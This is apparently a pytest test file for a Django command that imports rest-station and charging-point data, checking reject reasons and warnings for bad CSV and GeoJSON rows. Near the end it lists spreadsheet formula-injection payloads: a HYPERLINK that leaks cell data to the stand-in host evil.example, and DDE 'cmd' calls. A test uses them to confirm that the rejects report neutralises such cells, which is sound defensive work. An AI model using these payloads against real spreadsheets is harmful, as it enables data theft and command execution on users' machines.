"""Every reason a row is rejected or warned about, as the rejects report and stderr show it."""

import csv
import shutil
from datetime import UTC, datetime

import pytest

from stations.models import Station
from stations.vocabulary import ALL_WORKERS_MASK, worker_mask
from tests.stations.imports.helpers import FIXTURES, run

pytestmark = pytest.mark.django_db


def import_skipping_path(path, **options):
    """Import ``path`` with --skip-invalid; (stdout, stderr, {row: reason} from the rejects report)."""
    out, err = run(path, skip_invalid=True, **{"kind": "rest_station", "coordsys": "wgs84", "source": "x", **options})
    with open(f"{path}.rejects.csv", encoding="utf-8-sig", newline="") as handle:
        return out, err, {int(r["row"]): r["reason"] for r in csv.DictReader(handle)}


def import_skipping(tmp_path, fixture, **options):
    """The same for a copy of a fixture (the report is written next to the input)."""
    path = tmp_path / fixture
    shutil.copyfile(FIXTURES / fixture, path)
    return import_skipping_path(path, **options)


@pytest.fixture
def broken(tmp_path):
    return import_skipping(tmp_path, "broken.csv")


@pytest.mark.parametrize(
    "row, reason",
    [
        (3, "lon/lat (0, 0) is a placeholder, not a location; fill in the real coordinates"),
        (4, "lat/lon look swapped (lon=22.54, lat=114.05): put the longitude in lon and the latitude in lat"),
        (5, "lon 13800138000 is out of range -180..180 (a phone number or another column's value?)"),
        (6, "lon 'abc' is not a number"),
        (7, (
            "unknown amenity 'pool'; allowed: parking, ebike_charging, phone_charging, drinking_water, hot_water, "
            "microwave, meals, toilet, seating, air_conditioning, heating, tool_storage, first_aid, aed, wifi, shower, "
            "laundry, accommodation, truck_parking, legal_aid, reading, umbrella_loan"
        )),
        (9, "unknown kind 'spaceship'; allowed: rest_station, driver_home, charging_point"),
        (10, "external_id is empty: every row needs a stable id so re-imports update it"),
        (11, "external_id 'OK-1' was already used on row 2"),
        (12, "name is empty"),
        (14, "lat 95.5 is out of range -90..90 (another column's value?)"),
        (15, "unknown status 'open-ish'; allowed: open, temporarily_closed, closed, planned"),
        (16, "unknown worker type 'astronaut'; allowed: delivery, courier, ride_hailing, taxi, truck, sanitation"),
    ],
)
def test_it_rejects_the_row_with_a_reason_that_says_what_to_fix(broken, row, reason):
    _, _, reasons = broken
    assert reasons[row] == reason


def test_it_rejects_opening_hours_the_osm_parser_refuses(broken):
    _, _, reasons = broken
    assert reasons[8].startswith("opening_hours 'sometimes' is not valid OpenStreetMap opening_hours syntax (")
    assert reasons[8].endswith("e.g. '24/7' or 'Mo-Fr 08:00-20:00'")


def test_it_rejects_exactly_the_bad_rows_and_keeps_the_rest(broken):
    out, _, reasons = broken
    assert sorted(reasons) == [3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 14, 15, 16]
    assert "imported 3 stations (created 3, updated 0, unchanged 0), 13 rows rejected" in out
    stations = {s.external_id: s for s in Station.objects.all()}
    assert set(stations) == {"OK-1", "W-1", "D-1"}
    assert stations["OK-1"].name == "好驿站"  # the first OK-1 wins; the later duplicate is the reject
    assert stations["OK-1"].opening_hours == "24/7"
    assert stations["OK-1"].eligible_workers_mask == ALL_WORKERS_MASK  # empty = every worker
    assert stations["D-1"].eligible_workers_mask == worker_mask(["courier", "taxi"])


def test_it_warns_about_suspicious_rows_without_rejecting_them(broken):
    _, err, _ = broken
    assert "warning: row 13: whole-degree coordinates (114, 22) look like a placeholder\n" in err
    assert "warning: row 17: exactly the same coordinates as row 2\n" in err
    assert err.count("warning:") == 3  # and the unknown column


def test_it_warns_once_about_all_unknown_columns(tmp_path):
    path = tmp_path / "extra.csv"
    path.write_text("external_id,name,lon,lat,colour,备注\nU-1,甲,114.05,22.54,red,x\nU-2,乙,114.06,22.55,blue,y\n", encoding="utf-8")

    out, err = run(path, kind="rest_station", coordsys="wgs84", source="u")

    assert err == "warning: ignored unknown column(s): colour, 备注\n"
    assert "created 2" in out


def test_it_rejects_a_later_row_reusing_the_id_of_a_rejected_one(tmp_path):
    path = tmp_path / "dup.csv"
    path.write_text("external_id,name,lon,lat\nD-1,甲,0,0\nD-1,乙,114.05,22.54\n", encoding="utf-8")

    _, _, reasons = import_skipping_path(path)

    assert reasons == {2: "lon/lat (0, 0) is a placeholder, not a location; fill in the real coordinates",
                       3: "external_id 'D-1' was already used on row 2"}
    assert not Station.objects.exists()


@pytest.mark.parametrize(
    "lon, lat, reason",
    [
        ("", "22.5", "lon is empty"),
        ("114.05", "nan", "lat 'nan' is not a finite number"),
        ("inf", "22.5", "lon 'inf' is not a finite number"),
        ("114,05", "22.5", "lon '114,05' is not a number"),
        ("200", "100", "lat 100 is out of range -90..90 (another column's value?)"),
        ("-181", "45", "lon -181 is out of range -180..180 (another column's value?)"),
    ],
)
def test_it_rejects_coordinates_that_are_not_a_place(tmp_path, lon, lat, reason):
    path = tmp_path / "one.csv"
    path.write_text(f'external_id,name,lon,lat\nC-1,甲,"{lon}",{lat}\n', encoding="utf-8")

    _, _, reasons = import_skipping_path(path)

    assert reasons == {2: reason}


def test_it_rejects_rows_without_a_kind_when_no_default_is_given(tmp_path):
    path = tmp_path / "nokind.csv"
    path.write_text("external_id,name,lon,lat\nN-1,甲,114.05,22.54\n", encoding="utf-8")

    _, _, reasons = import_skipping_path(path, kind=None)

    assert reasons == {2: "kind is empty and no --kind was given; allowed: rest_station, driver_home, charging_point"}


def test_it_reads_the_optional_fields_of_geojson_and_rejects_bad_ones(tmp_path):
    out, _, reasons = import_skipping(tmp_path, "geojson_extras.geojson", kind="charging_point")

    assert reasons == {
        2: "geometry must be a Point",
        3: "geometry must be a Point",
        4: "Point coordinates must be [lon, lat]",
        5: "charging_sockets 'many' is not a whole number >= 0",
        6: "battery_swap 'maybe' is not yes/no (true/false, 1/0)",
        7: "last_verified_at 'yesterday' is not an ISO 8601 date/time like 2026-11-01T10:00:00+08:00",
    }
    assert "created 1" in out
    station = Station.objects.get()
    assert (station.external_id, station.kind, station.charging_vehicle) == ("P-1", "charging_point", "ebike")
    assert (station.charging_sockets, station.battery_swap, station.max_power_kw) == (4, True, 1.5)
    assert station.last_verified_at == datetime(2026, 11, 1, 2, 0, tzinfo=UTC)
    assert station.eligible_workers == ["delivery", "courier"]
    assert (station.city, station.city_adcode) == ("深圳市", "440300")


def test_it_rejects_text_longer_than_the_column(tmp_path):
    path = tmp_path / "long.csv"
    path.write_text(f"external_id,name,lon,lat,city\nL-1,甲,114.05,22.54,{'市' * 65}\n", encoding="utf-8")

    _, _, reasons = import_skipping_path(path)

    assert reasons == {2: "city is longer than 64 characters (65)"}


def test_it_puts_the_geometry_of_rejected_geojson_features_in_the_report(tmp_path):
    import_skipping(tmp_path, "geojson_extras.geojson", kind="charging_point")

    with open(tmp_path / "geojson_extras.geojson.rejects.csv", encoding="utf-8-sig", newline="") as handle:
        rows = {r["row"]: r for r in csv.DictReader(handle)}
    assert (rows["5"]["external_id"], rows["5"]["lon"], rows["5"]["lat"], rows["5"]["charging_sockets"]) == ("P-5", "114.07", "22.56", "many")
    assert (rows["2"]["lon"], rows["4"]["external_id"]) == ("", "4")


FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "address": "+cmd|' /C calc'!A0",
    "operator": "-2+3+cmd|' /C calc'!A0",
    "phone": "@SUM(1+9)*cmd|' /C calc'!A0",
}


def test_the_rejects_report_neutralises_cells_that_would_run_as_formulas(tmp_path):
    path = tmp_path / "formulas.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["external_id", "name", "lon", "lat", "address", "operator", "phone"])
        writer.writerow(["=1+1", FORMULAS["name"], "-200.5", "22.54", FORMULAS["address"], FORMULAS["operator"], FORMULAS["phone"]])
        writer.writerow(["OK-1", "好驿站", "114.05", "22.54", "", "", ""])

    _, _, _ = import_skipping_path(path)

    with open(f"{path}.rejects.csv", encoding="utf-8-sig", newline="") as handle:
        (reject,) = list(csv.DictReader(handle))
    assert reject["external_id"] == "'=1+1"
    assert {column: reject[column] for column in FORMULAS} == {column: "'" + text for column, text in FORMULAS.items()}
    assert reject["lon"] == "-200.5"  # a number stays a number, so the fixed file imports again
    assert reject["reason"].startswith("lon -200.5 is out of range")


def test_imported_values_that_look_like_formulas_are_stored_as_sent(tmp_path):
    path = tmp_path / "formula-name.csv"
    path.write_text(f'external_id,name,lon,lat\nF-1,"{FORMULAS["name"].replace(chr(34), chr(34) * 2)}",114.05,22.54\n', encoding="utf-8")

    run(path, kind="rest_station", coordsys="wgs84", source="x")

    assert Station.objects.get(external_id="F-1").name == FORMULAS["name"]
